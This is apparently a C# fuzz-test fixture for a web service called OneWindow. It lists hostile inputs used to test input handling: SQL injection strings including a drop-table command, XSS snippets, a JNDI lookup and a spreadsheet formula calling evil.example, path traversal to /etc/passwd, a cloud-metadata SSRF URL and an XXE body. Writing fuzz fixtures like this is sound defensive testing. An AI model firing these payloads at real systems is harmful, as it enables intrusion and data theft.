using System.Text;

namespace OneWindow.Tests.Fuzz;

/// <summary>What nobody types, and some do: pieces that have broken other houses.</summary>
internal static class Odd
{
    /// <summary>Stands for somebody's number in whatever is typed: it may come back to who typed it, but never in a log.</summary>
    public const string Typed = "11010519491231002X-CANARY-typed";

    public static readonly string[] Texts =
    [
        "", " ", "\t\r\n", "0", "-1", "1", "00", "2147483648", "-9223372036854775808", "9223372036854775808", "99999999999999999999999999", "1e309", "NaN", "0x1F", "１２３", "٣", "1,000.00", "-0.00",
        "null", "undefined", "true", "[]", "{}", "\"", "'", "\\", "\0", "a\0b", "\u0007", "\u202e逆", "\ufeff", "\ufffd", "é", "e\u0301", "ß", "ﷺ", "\ud842\udfb7", "\ud840\udc00㐀\ue000", "😀👨‍👩‍👧", "\ud800", "𝟘",
        "' or 1=1 --", "'; drop table cases.cases; --", "%' and sleep(5) --", "\\u0000", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "=HYPERLINK(\"http://evil.example\")",
        "@SUM(1)", "+1+1", "-2+3", "${jndi:ldap://evil.example}", "{{7*7}}", "../../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "%2e%2e%2f", "%00", "%", "%zz", "%c0%af", "%ed%a0%80", "con", ".", "..", "~", "*", "?", "#",
        "http://169.254.169.254/latest/meta-data", "//evil.example", "https:evil.example", "\\\\evil.example\\share", "2025-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "2025-03-03T09:00:00+99:00", "24:60",
        "370202000000", "999999999999", "000000000000", "3702022025030300000000013", "110105194912310020", "91370202XNQ00001X2", "19900000004", "370202-food-business", "nothing", "to-accept", Typed,
    ];

    public static readonly string[] Headers =
    [
        "Range: bytes=9-1", "Range: bytes=0-0,1-1,2-2,3-3", "If-None-Match: \"", "If-None-Match: *", "If-Modified-Since: never", "Accept: application/json", "Accept: */*;q=9", "Accept: image/gif", "Accept-Language: xx-YY;q=2,,,", "Accept-Encoding: gzip;q=nan",
        "Authorization: Bearer x", "Authorization: Basic !!!", "Authorization: Bearer", "Idempotency-Key: ", "X-Forwarded-For: ' or 1=1", "X-Forwarded-Proto: gopher", "Forwarded: for=\"[\"", "Cookie: OneWindow=broken; place=%00; text=huge",
        "Cookie: ;;;=", "Content-Encoding: gzip", "Expect: 100-continue", "X-HTTP-Method-Override: DELETE", "Upload-Offset: -1", "Upload-Offset: 99999999999999999999", "Upload-Length: -1", "Upload-Length: 9223372036854775807", "Upload-Metadata: ,,, basket", "Upload-Metadata: basket %%%",
        "Host: evil.example", "Host: ", "Host: [", "Host: a b", "Referer: javascript:alert(1)", "traceparent: 00-zz-zz-zz", "baggage: a=b,,,", "Content-Language: 中文", "Prefer: x", "X-Signature: AAAA", "X-Key-Id: ..", "Date: 0",
    ];

    public static readonly string?[] Kinds =
    [
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=gb18030", "application/x-www-form-urlencoded; charset=nonsense", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x",
        "application/json", "application/json; charset=utf-16", "application/json; charset=gb18030", "text/plain", "application/xml", "application/offset+octet-stream", "image/png", "x", "/", null,
    ];

    /// <summary>Bytes that are no text, and texts that are no JSON.</summary>
    public static readonly byte[][] Bodies =
    [
        [], [0], [0xff, 0xfe, 0xfd], [0xc0, 0xaf, 0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0x81, 0x30, 0x81, 0x30, 0x95, 0x32, 0x82, 0x36], Encoding.UTF8.GetBytes("{"), Encoding.UTF8.GetBytes("null"), Encoding.UTF8.GetBytes("[1,2"),
        Encoding.UTF8.GetBytes("\"text\""), Encoding.UTF8.GetBytes("{\"a\":1,\"a\":2,\"\":null}"), Encoding.UTF8.GetBytes(new string('[', 5_000)), Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 3_000))),
        Encoding.UTF8.GetBytes("{\"version\":1e400,\"key\":\"\\ud800\",\"answers\":{\"name\":[]},\"materials\":\"x\",\"item\":{}}"), Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
        Encoding.UTF8.GetBytes("--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 nothing\r\n--x--\r\n"),
        Encoding.UTF8.GetBytes("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nno end"), Encoding.UTF8.GetBytes("a=1&a=2&a=3&=&&&%=%&b%5b%5d=1"), Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 1_500).Select(i => $"f{i}={i}&"))),
    ];
}
